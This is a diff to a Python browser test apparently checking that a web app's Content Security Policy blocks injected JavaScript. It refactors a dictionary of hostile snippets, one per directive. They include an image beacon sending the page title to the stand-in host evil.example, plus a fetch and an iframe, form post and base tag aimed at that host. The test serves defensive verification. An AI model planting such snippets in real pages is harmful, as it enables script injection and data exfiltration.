@@ -49,15 +49,15 @@ def test_every_page_of_every_role_does_without_what_the_policy_refuses(
 # Streamlit's arithmetic of large numbers tries WebAssembly first, and does without where it is refused.
 DONE_WITHOUT = "script-src wasm-eval"
 
+PUT = "const put = (kind, told) => document.head.prepend(Object.assign(document.createElement(kind), told))"
 HOSTILE = {
-    "script-src-elem": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.done = 1'}))",
+    "script-src-elem": "put('script', {text: 'window.done = 1'})",
     "script-src": "setTimeout('window.done = 1')",
     "img-src": "new Image().src = 'http://evil.example/' + document.title",
-    "connect-src": "fetch('http://evil.example/').catch(() => 0); 0",
-    "frame-src": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'http://evil.example/'})); 0",
-    "form-action": """document.body.append(Object.assign(document.createElement('form'),
-                      {action: 'http://evil.example/', method: 'post', id: 'evil'})); evil.submit()""",
-    "base-uri": "document.head.prepend(Object.assign(document.createElement('base'), {href: 'http://evil.example/'}))",
+    "connect-src": "fetch('http://evil.example/').catch(() => 0)",
+    "frame-src": "put('iframe', {src: 'http://evil.example/'})",
+    "form-action": "put('form', {action: 'http://evil.example/', method: 'post', id: 'evil'}); evil.submit()",
+    "base-uri": "put('base', {href: 'http://evil.example/'})",
 }
 
 
@@ -66,7 +66,7 @@ def test_what_a_planted_script_or_address_would_do_is_refused(browser: Browser, 
     reading.page.goto(served.url)
     reading.page.locator("#kpi-account").wait_for(timeout=LATER)
     for directive, code in HOSTILE.items():
-        reading.page.evaluate(f"() => {{ window.directives = []; {code} }}")
+        reading.page.evaluate(f"() => {{ {PUT}; window.directives = []; {code} }}")
         reading.page.wait_for_function("() => window.directives.length", timeout=SOON)
         assert reading.page.evaluate("window.directives") == [directive]
     assert len([one for one in refused if not one.startswith(DONE_WITHOUT)]) == len(HOSTILE)
